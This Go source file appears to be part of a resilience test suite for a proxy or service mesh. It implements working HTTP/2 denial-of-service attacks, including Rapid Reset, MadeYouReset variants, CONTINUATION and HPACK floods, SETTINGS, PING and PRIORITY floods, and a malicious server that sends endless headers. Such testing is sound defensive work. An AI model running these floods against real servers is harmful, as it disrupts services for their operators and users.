package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is an HTTP/2 client that keeps no rule. Writes are gathered: flush sends them.
type h2 struct {
	*http2.Framer
	conn    net.Conn
	out     bytes.Buffer
	encoder *hpack.Encoder
	block   bytes.Buffer
	next    uint32 // the next stream
}

// framed makes an attack on HTTP/2 connections out of what it writes at once.
func framed(settings []http2.Setting, do func(h *h2, n int)) func(net.Conn) (step, error) {
	return func(c net.Conn) (step, error) {
		h := &h2{conn: c, next: 1}
		h.Framer = http2.NewFramer(&h.out, nil)
		h.AllowIllegalWrites = true
		h.encoder = hpack.NewEncoder(&h.block)
		drain(c)
		h.out.WriteString(http2.ClientPreface)
		_ = h.WriteSettings(settings...) // into memory
		_ = h.WriteSettingsAck()
		return func(c net.Conn, n int) error {
			do(h, n)
			err := write(c, h.out.String())
			h.out.Reset()
			return err
		}, nil
	}
}

// fields encodes a request's header block with more fields behind it.
func (h *h2) fields(path string, more ...hpack.HeaderField) []byte {
	h.block.Reset()
	for _, f := range append([]hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "app"}, {Name: ":path", Value: path}}, more...) {
		_ = h.encoder.WriteField(f) // into memory
	}
	return h.block.Bytes()
}

// request begins a stream and returns it.
func (h *h2) request(path string, end bool, more ...hpack.HeaderField) uint32 {
	id := h.next
	h.next += 2
	_ = h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.fields(path, more...), EndHeaders: true,
		EndStream: end})
	return id
}

// each writes n times at once.
func each(n int, do func(*h2)) func(*h2, int) {
	return func(h *h2, _ int) {
		for range n {
			do(h)
		}
	}
}

// raw writes a frame that Framer refuses to write.
func (h *h2) raw(kind http2.FrameType, flags http2.Flags, stream uint32, payload []byte) {
	_ = h.WriteRawFrame(kind, flags, stream, payload) // into memory
}

// uint32s is four bytes in network order.
func uint32s(v uint32) []byte { return binary.BigEndian.AppendUint32(nil, v) }

// rapidReset ends no connection of a meshed peer: its streams are refused.
const rapidReset = "rapid reset (CVE-2023-44487)"

// http2Floods are the attacks of an HTTP/2 client on four connections. A stranger does the step 100 times a second on
// each.
var http2Floods = []struct {
	name, what string
	ends       bool
	settings   []http2.Setting
	do         func(*h2, int)
}{
	{rapidReset, "requests that are cancelled at once, 10,000 a second a connection", true, nil, each(100, func(h *h2) {
		_ = h.WriteRSTStream(h.request("/", true), http2.ErrCodeCancel)
	})},
	{"MadeYouReset: window update of 0 (CVE-2025-8671)", "requests that the server has to reset", true, nil,
		each(50, func(h *h2) {
			h.raw(http2.FrameWindowUpdate, 0, h.request("/", false), uint32s(0))
		})},
	{"MadeYouReset: window overflow", "as above, by a window above 2^31-1", true, nil, each(100, func(h *h2) {
		h.raw(http2.FrameWindowUpdate, 0, h.request("/", false), uint32s(1<<31-1))
	})},
	{"MadeYouReset: PRIORITY of a wrong length", "as above, by a frame of four bytes", true, nil, each(50, func(h *h2) {
		h.raw(http2.FramePriority, 0, h.request("/", false), uint32s(0))
	})},
	{"MadeYouReset: stream that depends on itself", "as above, by PRIORITY", false, nil, each(50, func(h *h2) {
		id := h.request("/", false)
		h.raw(http2.FramePriority, 0, id, append(uint32s(id), 0))
		_ = h.WriteRSTStream(id, http2.ErrCodeCancel)
	})},
	{"MadeYouReset: HEADERS behind the end", "as above, by a second head", true, nil, each(50, func(h *h2) {
		id := h.request("/", true)
		_ = h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.fields("/"), EndHeaders: true})
	})},
	{"MadeYouReset: DATA behind the end", "as above, by a body", true, nil, each(50, func(h *h2) {
		_ = h.WriteData(h.request("/", true), false, []byte("x"))
	})},
	{"CONTINUATION flood", "header blocks that never end, 4 MB a second a connection", true, nil, func(h *h2, n int) {
		if n == 0 {
			_ = h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.fields("/")})
		}
		h.block.Reset()
		_ = h.encoder.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 16000), Sensitive: true})
		for range 4 {
			_ = h.WriteContinuation(1, false, h.block.Bytes())
		}
	}},
	{"empty CONTINUATION flood", "header blocks that never end, of empty frames", true, nil, func(h *h2, n int) {
		if n == 0 {
			_ = h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.fields("/")})
		}
		for range 100 {
			_ = h.WriteContinuation(1, false, nil)
		}
	}},
	{"HPACK bomb", "one large field in the table, named 4,000 times in each request", false, nil, func(h *h2, n int) {
		big := hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 3900)}
		if n == 0 {
			h.request("/", true, big)
		}
		many := make([]hpack.HeaderField, 4000)
		for i := range many {
			many[i] = big
		}
		h.request("/", true, many...)
	}},
	{"SETTINGS flood", "10,000 a second a connection", true, nil, each(100, func(h *h2) {
		_ = h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})},
	{"PING flood", "10,000 a second a connection", true, nil,
		each(100, func(h *h2) { _ = h.WritePing(false, [8]byte{}) })},
	{"PRIORITY flood", "10,000 a second a connection", true, nil, each(100, func(h *h2) {
		_ = h.WritePriority(h.next+100, http2.PriorityParam{StreamDep: 0, Weight: 1})
	})},
	{"WINDOW_UPDATE flood", "10,000 a second a connection", true, nil,
		each(100, func(h *h2) { _ = h.WriteWindowUpdate(0, 1) })},
	{"empty DATA flood", "10,000 a second a connection, of an upload that the application reads", true, nil,
		func(h *h2, n int) {
			if n == 0 {
				h.request("/upload", false)
			}
			for range 100 {
				_ = h.WriteData(1, false, nil)
			}
		}},
	{"DATA behind an early answer",
		"empty frames of an upload that the application has answered, 10,000 a second a connection", true, nil,
		func(h *h2, n int) {
			if n == 0 {
				h.request("/", false)
			}
			for range 100 {
				_ = h.WriteData(1, false, nil)
			}
		}},
	{"unknown frames", "types 10 to 15, 6,000 a second a connection", false, nil, each(100, func(h *h2) {
		for kind := http2.FrameType(10); kind < 16; kind++ {
			h.raw(kind, 0, 0, nil)
		}
	})},
	{"windows of 0", "1 MiB asked for 200 times a connection, and no room given", false,
		[]http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(h *h2, n int) {
			if n < 200 {
				h.request("/large", true)
			}
		}},
	{"heads that fill every stream", "requests with heads of 60 KiB that never end", false, nil, func(h *h2, n int) {
		if n < 200 {
			h.request("/", false, hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 60000), Sensitive: true})
		}
	}},
}

// http2Attacks runs the floods as a stranger in plaintext, and as a meshed peer.
func http2Attacks() []attack {
	var all []attack
	for _, f := range http2Floods {
		// A meshed peer carries the requests of many, so its bounds are higher: it floods four times as fast.
		for _, as := range []struct {
			from string
			open func(*pair) dial
			pace int
			ends bool
		}{{"stranger", stranger, 400, f.ends}, {"meshed peer, 4 times as fast", peer, 1600, f.ends && f.name != rapidReset}} {
			all = append(all, attack{name: f.name, from: as.from, what: f.what, memoryMiB: 64, endsConnections: as.ends,
				run: func(ctx context.Context, p *pair) (int, error) {
					return connections(ctx, 4, as.pace, as.open(p), framed(f.settings, f.do))
				}})
		}
	}
	return all
}

// serverAttacks are what a server that is not meshed does to the proxy of the client that calls it. The client sends
// 100 requests a second.
func serverAttacks() []attack {
	var all []attack
	for _, s := range []struct {
		name, what string
		preface    string // of the client: HTTP/2 with prior knowledge or HTTP/1
		answer     func(c net.Conn)
	}{
		{"response head without end", "header lines for ever", "", func(c net.Conn) {
			_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\n")
			endless(c, "x: "+strings.Repeat("a", 4000)+"\r\n")
		}},
		{"informational responses", "100 Continue for ever", "",
			func(c net.Conn) { endless(c, "HTTP/1.1 100 Continue\r\n\r\n") }},
		{"trailers without end", "a trailer section for ever", "", func(c net.Conn) {
			_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n0\r\n")
			endless(c, "x: "+strings.Repeat("a", 4000)+"\r\n")
		}},
		{"SETTINGS_MAX_FRAME_SIZE of 0", "CVE-2026-33814", http2.ClientPreface, func(c net.Conn) {
			f := http2.NewFramer(c, nil)
			f.AllowIllegalWrites = true
			_ = f.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 0})
			_, _ = io.Copy(io.Discard, c)
		}},
		{"CONTINUATION flood of a server", "a response head that never ends", http2.ClientPreface, func(c net.Conn) {
			f := http2.NewFramer(c, nil)
			_ = f.WriteSettings()
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x88}})
			go func() { _, _ = io.Copy(io.Discard, c) }()
			for f.WriteContinuation(1, false, make([]byte, 16000)) == nil {
			}
		}},
		{"PING flood of a server", "as fast as it goes", http2.ClientPreface, func(c net.Conn) {
			f := http2.NewFramer(c, nil)
			_ = f.WriteSettings()
			go func() { _, _ = io.Copy(io.Discard, c) }()
			for f.WritePing(false, [8]byte{}) == nil {
			}
		}},
	} {
		all = append(all, attack{name: s.name, from: "called server", what: s.what, memoryMiB: 64,
			run: func(ctx context.Context, p *pair) (int, error) {
				stop, err := serveEvil(ctx, s.answer)
				if err != nil {
					return 0, err
				}
				defer stop()
				local := func(ctx context.Context) (net.Conn, error) { return dialAttack(ctx, outEvil) }
				if s.preface == "" {
					return connections(ctx, 16, 100, local, begins("", func(c net.Conn, _ int) error {
						return write(c, "GET / HTTP/1.1\r\nhost: evil\r\n\r\n")
					}))
				}
				return connections(ctx, 16, 100, local, framed(nil, func(h *h2, _ int) { h.request("/", true) }))
			}})
	}
	return all
}

// endless writes s until the connection ends.
func endless(c net.Conn, s string) {
	for _, err := io.WriteString(c, s); err == nil; _, err = io.WriteString(c, s) {
	}
}

// serveEvil answers every connection to the attacker's server until ctx ends or stop is called.
func serveEvil(ctx context.Context, answer func(net.Conn)) (stop func(), err error) {
	l, err := net.Listen("tcp", evil.String())
	if err != nil {
		return nil, err
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			stopped := context.AfterFunc(ctx, func() { _ = c.Close() })
			go func() {
				defer stopped()
				defer func() { _ = c.Close() }()
				_, _ = c.Read(make([]byte, 4096)) // the request's beginning
				answer(c)
			}()
		}
	}()
	return func() { _ = l.Close() }, nil
}
